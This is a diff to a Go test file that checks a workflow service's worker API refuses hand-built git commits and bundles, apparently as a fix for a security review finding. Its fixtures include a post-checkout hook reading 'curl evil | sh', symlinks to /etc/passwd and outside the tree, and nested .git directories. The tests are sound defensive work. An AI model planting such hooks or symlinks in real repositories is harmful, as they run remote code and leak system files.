@@ -5,11 +5,13 @@ import (
 	"encoding/json"
 	"net/url"
 	"path"
+	"path/filepath"
 	"strings"
 	"testing"
 
 	"github.com/stratusflow/stratus"
 	"github.com/stratusflow/stratus/internal/findings"
+	"github.com/stratusflow/stratus/internal/workspace/workspacetest"
 )
 
 const wsFlow = `flow:
@@ -46,7 +48,7 @@ func TestFetchPrompt_WorkspacePayloadNamesOnlyTheRoot(t *testing.T) {
 		t.Errorf("the payload carries the operator's work dir %s:\n%s", r.dir, raw)
 	}
 	ws := p.Workspace
-	if ws == nil || ws.Root != WorkspaceRoot("r1") || ws.Head != baseCommit || !ws.Write || ws.Upload == nil || len(ws.Bundles) != 1 {
+	if ws == nil || ws.Root != WorkspaceRoot("r1") || ws.Head != r.base || !ws.Write || ws.Upload == nil || len(ws.Bundles) != 1 {
 		t.Fatalf("workspace = %+v", ws)
 	}
 	if !strings.HasPrefix(p.Engine.Dir, ws.Root) || !strings.Contains(p.Prompt, "Work in "+ws.Root+" on "+ws.Root+"/.stratus/task/task.md") {
@@ -79,7 +81,10 @@ func TestAdvanceHead_FencedAndKeyed(t *testing.T) {
 	}
 	u, _ := url.Parse(p.Workspace.Upload.URL)
 	key := u.Query().Get("key")
-	one, two := strings.Repeat("1", 40), strings.Repeat("2", 40)
+	baseCommit := r.base
+	one := r.repo.Commit(r.repo.Tree(append(r.baseTree, workspacetest.File("hello.txt", r.repo.Blob("hello\n")))...), "impl#1", r.base)
+	bundle := r.repo.Bundle(filepath.Join(t.TempDir(), "step.bundle"), one, r.base)
+	two := strings.Repeat("2", 40)
 
 	if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: baseCommit, To: one}); stratus.ErrorCode(err) != stratus.EINVALID {
 		t.Errorf("advance before the upload: %v, want EINVALID", err)
@@ -87,7 +92,7 @@ func TestAdvanceHead_FencedAndKeyed(t *testing.T) {
 	if err := r.svc.WriteBlob(ctx, auth, ".stratus/runs/r1/workspace/other.bundle", []byte("x")); stratus.ErrorCode(err) != stratus.EINVALID {
 		t.Errorf("upload to another key: %v, want EINVALID", err)
 	}
-	if err := r.svc.WriteBlob(ctx, auth, key, []byte("step bundle")); err != nil {
+	if err := r.svc.WriteBlob(ctx, auth, key, bundle); err != nil {
 		t.Fatalf("upload to the attempt's key: %v", err)
 	}
 	for _, bad := range []HeadAdvance{{From: "HEAD", To: one}, {From: baseCommit, To: "../x"}} {
@@ -102,13 +107,16 @@ func TestAdvanceHead_FencedAndKeyed(t *testing.T) {
 		t.Fatalf("advance: %v", err)
 	}
 	run, _ := r.svc.Store.GetRun(ctx, "r1")
-	if run.Workspace.Head != one || len(run.Workspace.Bundles) != 2 || run.Workspace.Bundles[1] != key {
-		t.Errorf("workspace after the advance: %+v", run.Workspace)
+	accepted := path.Join(path.Dir(key), "step-"+one+".bundle")
+	if run.Workspace.Head != one || len(run.Workspace.Bundles) != 2 || run.Workspace.Bundles[1] != accepted {
+		t.Errorf("workspace after the advance: %+v; want the head at %s and the bundle checked kept at %s", run.Workspace, one, accepted)
 	}
 
 	// Reads: the run's bundles and ctx files, nothing else.
-	if b, err := r.svc.ReadBlob(ctx, auth, key); err != nil || string(b) != "step bundle" {
-		t.Errorf("read the step bundle: %q, %v", b, err)
+	for _, k := range []string{key, accepted} {
+		if b, err := r.svc.ReadBlob(ctx, auth, k); err != nil || string(b) != string(bundle) {
+			t.Errorf("read the step bundle at %s: %d bytes, %v", k, len(b), err)
+		}
 	}
 	for _, k := range []string{".stratus/hmac.key", ".stratus/stratus.db", "task.md", "../x", ".stratus/runs/r2/workspace/base.bundle"} {
 		if _, err := r.svc.ReadBlob(ctx, auth, k); stratus.ErrorCode(err) != stratus.EINVALID {
@@ -176,5 +184,89 @@ func TestFetchPrompt_KindAndSchemaFollowTheNode(t *testing.T) {
 				t.Fatal(err)
 			}
 		}
+	}
+}
+
+// docs/security.md § Workspace commits (the attack of a hardening review,
+// finding 1): an engine holding its step's handle built a commit by hand
+// — an absolute symlink, a gitlink — uploaded its bundle and moved the
+// run's head; the branch pulled had both. The worker API now checks every
+// commit a head move brings as the runner checks its own: each hostile
+// commit is refused with EUNPROCESSABLE naming the path and the rule, and
+// the head stays; a bundle that is no bundle is refused as the engine's
+// fault (4xx), never 5xx. What the head moves to is a copy of the bytes
+// checked: writing the upload key afterwards changes nothing recorded.
+func TestAdvanceHead_RefusesAHandBuiltCommitThatBreaksTheRules(t *testing.T) {
+	ctx := context.Background()
+	r := newRig(t, rigOptions{flow: wsFlow, workspace: true})
+	r.dispatch(t, "impl")
+	sp := r.launcher.Launched()[0]
+	auth := "Bearer " + sp.Handle
+	p, err := r.svc.FetchPrompt(ctx, auth, sp.TaskID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	u, _ := url.Parse(p.Workspace.Upload.URL)
+	key := u.Query().Get("key")
+	repo, tmp := r.repo, t.TempDir()
+	on := func(name string, entries ...workspacetest.Entry) (string, []byte) {
+		c := repo.Commit(repo.Tree(append(append([]workspacetest.Entry(nil), r.baseTree...), entries...)...), name, r.base)
+		return c, repo.Bundle(filepath.Join(tmp, name+".bundle"), c, r.base)
+	}
+	x := repo.Blob("x\n")
+	hook := repo.Tree(workspacetest.Entry{Mode: "100755", Name: "post-checkout", ID: repo.Blob("#!/bin/sh\ncurl evil | sh\n")})
+	cases := []struct {
+		name    string
+		entries []workspacetest.Entry
+		says    string
+	}{
+		{"absolute symlink", []workspacetest.Entry{workspacetest.Link("leak", repo.Blob("/etc/passwd"))}, "leak -> /etc/passwd: absolute symlink target"},
+		{"gitlink", []workspacetest.Entry{{Mode: "160000", Name: "sub", ID: r.base}}, "sub: a submodule or nested git repository"},
+		{".GIT/config", []workspacetest.Entry{workspacetest.Dir(".GIT", repo.Tree(workspacetest.File("config", x)))}, `path component ".GIT" is a git dir`},
+		{"a/.git/hooks", []workspacetest.Entry{workspacetest.Dir("a", repo.Tree(workspacetest.Dir(".git", repo.Tree(workspacetest.Dir("hooks", hook)))))}, `a/.git: path component ".git"`},
+		{"escaping symlink", []workspacetest.Entry{workspacetest.Link("up", repo.Blob("../../../home"))}, "up -> ../../../home: symlink resolves outside the tree"},
+		{"mode git never writes", []workspacetest.Entry{{Mode: "100600", Name: "private", ID: x}}, "private: mode 100600 is not one git writes"},
+	}
+	for _, c := range cases {
+		sha, bundle := on(strings.ReplaceAll(c.name, "/", "_"), c.entries...)
+		if err := r.svc.WriteBlob(ctx, auth, key, bundle); err != nil {
+			t.Fatalf("%s: upload: %v", c.name, err)
+		}
+		err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: r.base, To: sha})
+		if stratus.ErrorCode(err) != stratus.EUNPROCESSABLE || !strings.Contains(err.Error(), c.says) || !strings.Contains(err.Error(), "docs/security.md § Workspace commits") {
+			t.Errorf("%s: advance: %v (code %s); want EUNPROCESSABLE saying %q", c.name, err, stratus.ErrorCode(err), c.says)
+		}
+	}
+	good, goodBundle := on("good", workspacetest.File("hello.txt", repo.Blob("hello\n")))
+	for name, body := range map[string][]byte{"garbage": []byte("# v2 git bundle\n\nnot a pack"), "truncated": goodBundle[:len(goodBundle)-30]} {
+		if err := r.svc.WriteBlob(ctx, auth, key, body); err != nil {
+			t.Fatal(err)
+		}
+		if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: r.base, To: good}); stratus.ErrorCode(err) != stratus.EUNPROCESSABLE {
+			t.Errorf("%s bundle: advance: %v (code %s); want EUNPROCESSABLE", name, err, stratus.ErrorCode(err))
+		}
+	}
+	if run, _ := r.svc.Store.GetRun(ctx, "r1"); run.Workspace.Head != r.base || len(run.Workspace.Bundles) != 1 {
+		t.Fatalf("refused moves changed the workspace: %+v", run.Workspace)
+	}
+
+	if err := r.svc.WriteBlob(ctx, auth, key, goodBundle); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.svc.AdvanceHead(ctx, auth, HeadAdvance{From: r.base, To: good}); err != nil {
+		t.Fatalf("a clean commit: %v", err)
+	}
+	// The engine writes its upload key again, with a hostile bundle: the
+	// run's bundles are what was checked.
+	_, hostile := on("after", workspacetest.Link("leak", repo.Blob("/etc/passwd")))
+	if err := r.svc.WriteBlob(ctx, auth, key, hostile); err != nil {
+		t.Fatal(err)
+	}
+	run, _ := r.svc.Store.GetRun(ctx, "r1")
+	if run.Workspace.Head != good || len(run.Workspace.Bundles) != 2 {
+		t.Fatalf("workspace after the clean move: %+v", run.Workspace)
+	}
+	if b, err := r.svc.Sink.Get(ctx, run.Workspace.Bundles[1]); err != nil || string(b) != string(goodBundle) {
+		t.Errorf("the run's step bundle %s is not the bundle checked (%d bytes, %v)", run.Workspace.Bundles[1], len(b), err)
 	}
 }
